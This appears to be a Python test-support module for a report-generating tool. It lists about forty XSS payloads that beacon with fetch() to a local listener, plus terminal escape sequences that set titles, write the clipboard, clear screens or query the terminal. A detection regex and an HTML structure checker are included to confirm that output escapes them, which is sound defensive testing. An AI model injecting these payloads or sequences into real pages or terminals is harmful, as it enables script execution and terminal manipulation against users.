"""What somebody writes into a packet, a file or its name, so that who reads a report runs it or a terminal obeys it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

__all__ = ("PAYLOADS", "SEQUENCES", "STEERING", "Structure", "raw")

# PORT is where a listener waits for whoever believes them.
PAYLOADS = [
    payload.replace("RUN", "document.title='owned';fetch('http://127.0.0.1:PORT/fetch')")
    for payload in (
        "<script>RUN</script>",
        "</script><script>RUN</script>",
        "<script src=http://127.0.0.1:PORT/script></script>",
        "<script type=module>RUN</script>",
        "<ScRiPt>RUN</sCrIpT>",
        "<scr\0ipt>RUN</scr\0ipt>",
        "<img src=x onerror=\"RUN\">",
        "<img src=http://127.0.0.1:PORT/img>",
        "<img srcset='http://127.0.0.1:PORT/srcset 2x'>",
        "\"><img src=http://127.0.0.1:PORT/quote>",
        "'><img src=http://127.0.0.1:PORT/apostrophe>",
        "\" autofocus onfocus=\"RUN",
        "' autofocus onfocus='RUN",
        "\" style=\"background:url(http://127.0.0.1:PORT/style)",
        "<svg onload=\"RUN\">",
        "<svg><script>RUN</script></svg>",
        "<svg><image href=http://127.0.0.1:PORT/svg></svg>",
        "<math><mtext><script>RUN</script></mtext></math>",
        "<iframe src=http://127.0.0.1:PORT/iframe></iframe>",
        "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>",
        "<object data=http://127.0.0.1:PORT/object></object>",
        "<embed src=http://127.0.0.1:PORT/embed>",
        "<link rel=stylesheet href=http://127.0.0.1:PORT/link>",
        "<link rel=icon href=http://127.0.0.1:PORT/icon>",
        "<style>@import 'http://127.0.0.1:PORT/import';</style>",
        "</style><script>RUN</script>",
        "</title><script>RUN</script>",
        "</textarea></pre></summary></details></td></table><script>RUN</script>",
        "<meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/refresh'>",
        "<base href=http://127.0.0.1:PORT/>",
        "<form action=http://127.0.0.1:PORT/form><input autofocus onfocus=\"RUN\"></form>",
        "<details open ontoggle=\"RUN\"><summary>x</summary></details>",
        "<video><source onerror=\"RUN\" src=x></video>",
        "<audio src=http://127.0.0.1:PORT/audio autoplay></audio>",
        "<body onload=\"RUN\" background=http://127.0.0.1:PORT/body>",
        "<!--><script>RUN</script>-->",
        "<![CDATA[<script>RUN</script>]]>",
        "&lt;script&gt;RUN&lt;/script&gt;&#60;script&#62;RUN&#60;/script&#62;",
        "{{ 7 * 191 }}{% raw %}{{ ''.__class__ }}",
        "+ADw-script+AD4-RUN+ADw-/script+AD4-",
        "<a href=\"javascript:RUN\" autofocus>x</a><plaintext>",
    )
]  # fmt: skip

SEQUENCES = [
    "\x1b]0;owned\x07",  # the window's title
    "\x1b]2;owned\x1b\\",
    "\x1b]8;;http://example.test\x1b\\link\x1b]8;;\x1b\\",  # a link
    "\x1b]52;c;b3duZWQ=\x07",  # the clipboard
    "\x1b]4;1;?\x07",  # asks for a colour, and the terminal types the answer
    "\x1b[2J",  # clears the screen
    "\x1b[1A\x1b[2K",  # wipes the line above
    "\x1b[31m",  # red
    "\x1b[8m",  # hidden
    "\x1b[6n",  # asks where the cursor is
    "\x1b[c",  # asks who the terminal is
    "\x1b[?1049h",  # the other screen
    "\x1b[20t",  # asks for the title
    "\x1bP$q m\x1b\\",  # DCS
    "\x1b_Gi=1;AAAA\x1b\\",  # APC
    "\x1bc",  # reset
    "\x9b31m",  # CSI in one byte
    "\x9d0;owned\x9c",  # OSC in one byte
    "\r\x08\x08overwritten",
    "\u202eexe.pcap\u202c\u2066\u2069",  # right to left
    "\udc80\udcff\ud800",  # bytes that were no UTF-8
    *map(chr, range(256)),
    *(bytes([byte]).decode("utf-8", "surrogateescape") for byte in range(128, 256)),
]

STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


class Structure(HTMLParser):
    """Notes elements, attributes, comments and declarations in order; text is not structure."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[object] = []
        self._texts: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, *attrs))

    def handle_endtag(self, tag: str) -> None:
        self.seen.append(tag)

    def handle_comment(self, data: str) -> None:
        self.seen.append(("comment", data))

    def handle_decl(self, decl: str) -> None:
        self.seen.append(("declaration", decl))

    def unknown_decl(self, data: str) -> None:
        self.seen.append(("unknown", data))

    def handle_pi(self, data: str) -> None:
        self.seen.append(("instruction", data))

    def handle_data(self, data: str) -> None:
        self._texts.append(data)

    @property
    def text(self) -> str:
        """What a reader sees, and the style sheet."""
        return "".join(self._texts)

    @property
    def open_elements(self) -> list[str]:
        """Elements that are not closed, or closed in another order than they were opened; none in a sound page."""
        path: list[str] = []
        for each in self.seen:
            if isinstance(each, str):
                if path[-1:] != [each]:
                    return [*path, f"/{each}"]
                path.pop()
            elif isinstance(each, tuple) and each[0] not in (
                "meta",
                "comment",
                "declaration",
                "unknown",
                "instruction",
            ):
                path.append(each[0])
        return path


def raw(text: str) -> bytes:
    """The bytes of a text; where it holds lone surrogates, those that they stand for."""
    modes = ("surrogateescape" if "\udc80" <= char <= "\udcff" else "surrogatepass" for char in text)
    return b"".join(char.encode("utf-8", mode) for char, mode in zip(text, modes, strict=True))
